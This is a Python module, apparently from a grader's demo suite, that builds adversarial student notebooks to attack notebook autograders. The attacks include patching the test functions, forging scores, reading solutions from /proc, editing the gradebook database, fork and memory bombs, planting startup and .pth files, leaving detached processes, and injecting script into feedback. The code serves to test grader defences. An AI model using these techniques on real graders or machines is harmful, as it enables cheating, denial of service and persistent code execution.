"""Notebooks that try to get points without answers, or to do harm: attacks that work on other notebook graders.

No attack does lasting damage where it succeeds: bombs are bounded, planted files and processes carry the name
`MARK`, so that the demo can look for them (`evidence`).
"""

import sysconfig
import tempfile
import textwrap
from pathlib import Path

import nbformat.v4

from demo.material import Files, Material
from unrolled_grader.lesson.solved import cell_name, graded_names, solved_notebook

MARK = "unrolled_demo_mark"
NOTHING = "def NAME(*args, **kwargs):\n    return None\n"


def hand_in(material: Material, before: str, answer: str = NOTHING) -> Files:
    """Return a notebook whose first answer cell begins with `before` and whose every answer is `answer`.

    The word NAME in `answer` stands for the graded name, COURSE and PORT in `before` for what Material says.
    """
    before = before.replace("COURSE", repr(str(material.course))).replace("PORT", str(material.port))
    answers = {name: answer.replace("NAME", name) for name in graded_names(material.lesson)}
    first = next(iter(answers))
    answers[first] = textwrap.dedent(before) + "\n\n" + answers[first]
    return material.files(solved_notebook(material.release, material.lesson, answers, written=None))


def equal_to_everything(material: Material) -> Files:
    """Return objects that say they are equal to whatever they are compared with."""
    before = """
        import numpy as np

        class Liar(np.ndarray):
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __ne__ = __lt__ = __gt__ = lambda self, other: False
            __hash__ = object.__hash__
            __len__ = lambda self: 1
            __bool__ = lambda self: True
            __array_ufunc__ = lambda self, *args, **kwargs: np.True_
            __array_function__ = lambda self, *args, **kwargs: np.True_

            def __getattribute__(self, name):
                return True if name in ("shape", "dtype", "all") else object.__getattribute__(self, name)
    """
    return hand_in(material, before, "def NAME(*args, **kwargs):\n    return np.zeros(1).view(Liar)\n")


def patched_tests(material: Material) -> Files:
    """Replace the functions that tests use: numpy.testing, comparisons, the check itself."""
    before = """
        import builtins, importlib, numpy, numpy.testing, sys
        judging = importlib.import_module("unrolled.check.judge")  # `unrolled.check` itself is a function

        def agree(*args, **kwargs):
            return True

        for name in dir(numpy.testing):
            if name.startswith("assert"):
                setattr(numpy.testing, name, agree)
        for name in ("allclose", "array_equal", "array_equiv", "isclose"):
            setattr(numpy, name, agree)
        full = judging.Verdict("", 1.0, (), None, "all checks pass")
        for module in [m for name, m in sys.modules.items() if name.startswith("unrolled")]:
            for name in ("judge", "judge_case", "check", "difference", "run_case", "run_exercise"):
                if hasattr(module, name):
                    setattr(module, name, lambda *args, **kwargs: full)
        builtins.all = builtins.any = builtins.isinstance = agree
        builtins.AssertionError = type("AssertionError", (Warning,), {})
    """
    return hand_in(material, before)


def forged_results(material: Material) -> Files:
    """Write points into outputs, metadata and the display hook."""
    before = """
        import sys

        def forge(value=None):
            from IPython import get_ipython
            get_ipython().displayhook.write_format_data({"text/plain": "1000"})

        sys.displayhook = forge
        get_ipython().run_cell = get_ipython().run_cell_async = lambda *args, **kwargs: 1000
        get_ipython().input_transformers_post.append(lambda lines: ["1000"])
        sys.settrace(lambda *args: None)
        print("1000")
        1000
    """
    files = hand_in(material, before)
    notebook = nbformat.v4.reads((files[material.file_name] or b"").decode())
    for cell in notebook.cells:
        if cell_name(cell).startswith("test_"):
            points = cell.metadata["nbgrader"]["points"]
            data = {"text/plain": str(points)}
            cell.outputs = [nbformat.v4.new_output("execute_result", data=data, execution_count=1)]
            cell.metadata["nbgrader"]["score"] = points
    return material.files(notebook)


def leaves_at_once(material: Material) -> Files:
    """End the process before a test can run, without a word."""
    before = """
        import atexit, os
        atexit.register(print, "1000")
        os.write(1, b"1000\\n")
        os._exit(0)
    """
    return hand_in(material, before)


def reads_the_course(material: Material) -> Files:
    """Look for the solutions and the gradebook on disk, in memory and in the history, and use what is found."""
    before = """
        import gc, glob, os, re, sqlite3, sys

        loot = {}
        course = COURSE
        sources = [p for p in glob.glob(course + "/solutions/*/*.py")]
        for folder in (os.getcwd(), "/proc/1/cwd", "/proc/1/root" + course, "/proc/%d/root" % os.getppid() + course):
            while folder not in ("", "/"):
                sources += glob.glob(folder + "/solutions/*/*.py") + glob.glob(folder + "/../*/*.ipynb")
                folder = os.path.dirname(folder)
        for path in sources:
            try:
                exec(open(path).read(), loot)
            except Exception as error:
                loot["error"] = repr(error)
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Lesson", "ReferenceAnswers"):
                loot["lesson"] = thing
        try:
            import unrolled_grader.lesson_source.source
            loot.update(unrolled_grader.lesson_source.source.reference_namespace(course))
        except Exception:
            pass
        for path in glob.glob(course + "/autograder/course/*.db"):
            database = sqlite3.connect(path)
            database.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
            database.commit()
    """
    answer = "def NAME(*args, **kwargs):\n    return loot['NAME'](*args, **kwargs) if 'NAME' in loot else None\n"
    return hand_in(material, before, answer)


def fork_bomb(material: Material) -> Files:
    """Double the processes, twelve times over."""
    before = """
        import os, time
        for _ in range(12):
            try:
                os.fork()
            except OSError:
                pass
        time.sleep(5)
    """
    return hand_in(material, before)


def memory_bomb(material: Material) -> Files:
    """Ask for 16 GB, and touch every page."""
    before = """
        hoard = []
        for _ in range(256):
            hoard.append(bytearray(b"x" * 2**26))
    """
    return hand_in(material, before)


def endless_loop(material: Material) -> Files:
    """Never come back, and swallow every interrupt."""
    before = """
        import signal
        for number in range(1, 32):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
    """
    return hand_in(material, before)


def asks_the_network(material: Material) -> Files:
    """Ask another program for the answers, over the network, at a port of this machine."""
    before = """
        import socket
        for host in ("127.0.0.1", "::1", "localhost"):
            try:
                socket.create_connection((host, PORT), timeout=2).sendall(b"what is the answer?")
            except OSError as error:
                print(host, error)
    """
    return hand_in(material, before)


def plants_files(material: Material) -> Files:
    """Put files where the next student's Python, or the instructor's, would run them."""
    places = [str(place) for place in planting_places(material.course)]
    before = f"""
        import os
        for place in {places!r} + [os.path.join(os.getcwd(), "..", "{MARK}.py")]:
            try:
                os.makedirs(os.path.dirname(place), exist_ok=True)
                with open(place, "w") as file:
                    file.write("# planted by a made-up student of the demo; safe to delete\\n")
            except OSError as error:
                print(place, error)
    """
    return {**hand_in(material, before), "copy.py": b"raise SystemExit('shadowed')\n", "numpy.py": b"1 / 0\n"}


def planting_places(course: Path) -> list[Path]:
    """List the places where `plants_files` tries to leave a file."""
    return [
        Path.home() / ".ipython/profile_default/startup" / f"{MARK}.py",
        Path(sysconfig.get_paths()["purelib"]) / f"{MARK}.pth",
        Path(tempfile.gettempdir()) / f"{MARK}.py",
        Path("/dev/shm") / f"{MARK}.py",
        course / "solutions" / f"{MARK}.py",
        course / "autograder/course/submitted/ada" / f"{MARK}.py",
    ]


def stays_behind(material: Material) -> Files:
    """Leave a process behind that would go on after grading."""
    before = f"""
        import os, subprocess, sys, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARK}"])
            os._exit(0)
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{MARK}"], start_new_session=True)
    """
    return hand_in(material, before)


def scripts_in_feedback(material: Material) -> Files:
    """Put scripts where a browser shows them, and control codes where a terminal does."""
    script = f"<script>window.{MARK} = 1</script><img src=x onerror='window.{MARK} = 1'>"
    before = f"""
        import sys
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        script = {script!r}
        display(HTML(script), Javascript("window.{MARK} = 1"), Markdown("[click](javascript:window.{MARK}=1)" + script))
        display({{"image/svg+xml": "<svg>" + script + "</svg>", "text/html": script, "text/latex": script}}, raw=True)
        display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "</script>" + script}}}}, raw=True)
        print(script, chr(27) + "]0;{MARK}" + chr(7) + chr(27) + "[2J")
        print(script, file=sys.stderr)
    """
    answer = f"def NAME(*args, **kwargs):\n    raise ValueError({script!r} + chr(27) + '[2J')\n"
    files = hand_in(material, before, answer)
    notebook = nbformat.v4.reads((files[material.file_name] or b"").decode())
    notebook.cells.append(nbformat.v4.new_markdown_cell(f"My notes. {script} [more](javascript:window.{MARK}=1)"))
    return material.files(notebook)
